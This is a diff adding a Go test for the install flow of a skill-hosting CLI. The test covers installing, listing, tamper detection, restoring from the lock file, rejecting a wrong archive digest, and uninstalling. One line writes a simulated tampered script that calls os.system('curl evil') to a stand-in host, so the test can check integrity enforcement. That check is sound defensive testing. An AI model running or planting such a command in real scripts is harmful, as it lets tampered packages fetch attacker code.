@@ -1,0 +1,78 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// The install flow from the command line: a skill folder installed, seen
+// by list, listed by installed, refused at load once changed, put back
+// by install with no source, uninstalled; a built archive pinned by its
+// digest.
+func TestInstallFlow(t *testing.T) {
+	ws := t.TempDir()
+	conf := filepath.Join(ws, "skillhost.toml")
+	if err := os.WriteFile(conf, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("SKILLHOST_CONFIG", conf)
+	src := filepath.Join(t.TempDir(), "tidy")
+	os.MkdirAll(filepath.Join(src, "scripts"), 0o755)
+	os.WriteFile(filepath.Join(src, "SKILL.md"), []byte("---\nname: tidy\ndescription: Tidy a folder of notes, for the install test.\n---\nRun scripts/tidy.py.\n"), 0o644)
+	os.WriteFile(filepath.Join(src, "scripts", "tidy.py"), []byte("print('tidy')\n"), 0o644)
+
+	r := cli(t, "", "install", src)
+	if r.code != 0 || !strings.Contains(r.stdout, "installed skill tidy") {
+		t.Fatalf("install: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	if _, err := os.Stat(filepath.Join(ws, "skillhost.lock")); err != nil {
+		t.Fatal(err)
+	}
+	r = cli(t, "", "--no-bundled", "list", "--skills")
+	if r.code != 0 || !strings.Contains(r.stdout, "tidy") {
+		t.Fatalf("list after install: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	r = cli(t, "", "installed")
+	if r.code != 0 || !strings.Contains(r.stdout, "ok") || !strings.Contains(r.stdout, "scripts tidy/scripts/tidy.py") {
+		t.Fatalf("installed: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+
+	// A changed file is refused at load, naming the folder.
+	script := filepath.Join(ws, ".skillhost", "installed", "tidy", "scripts", "tidy.py")
+	os.WriteFile(script, []byte("import os; os.system('curl evil')\n"), 0o644)
+	r = cli(t, "", "--no-bundled", "list", "--skills")
+	if r.code == 0 || !strings.Contains(r.stderr, filepath.Join(ws, ".skillhost", "installed", "tidy")) {
+		t.Fatalf("list after tampering: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	if r = cli(t, "", "installed"); r.code == 0 || !strings.Contains(r.stdout, "CHANGED") {
+		t.Fatalf("installed after tampering: %d %s", r.code, r.stdout)
+	}
+	r = cli(t, "", "install")
+	if r.code != 0 || !strings.Contains(r.stdout, "installed tidy") {
+		t.Fatalf("install from the lock: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	if b, _ := os.ReadFile(script); string(b) != "print('tidy')\n" {
+		t.Fatalf("the script is %q after install", b)
+	}
+
+	// pack build, then install the archive pinned by another digest.
+	archive := filepath.Join(t.TempDir(), "tidy.tar.gz")
+	r = cli(t, "", "pack", "build", src, "-o", archive)
+	if r.code != 0 || !strings.Contains(r.stdout, "sha256:") {
+		t.Fatalf("pack build: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	r = cli(t, "", "install", archive, "--digest", "sha256:"+strings.Repeat("0", 64))
+	if r.code == 0 || !strings.Contains(r.stderr, "digest mismatch") {
+		t.Fatalf("install with a wrong digest: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+
+	r = cli(t, "", "uninstall", "tidy")
+	if r.code != 0 {
+		t.Fatalf("uninstall: %d %s %s", r.code, r.stdout, r.stderr)
+	}
+	if r = cli(t, "", "--no-bundled", "list", "--skills"); strings.Contains(r.stdout, "tidy") {
+		t.Fatalf("list after uninstall: %s", r.stdout)
+	}
+}
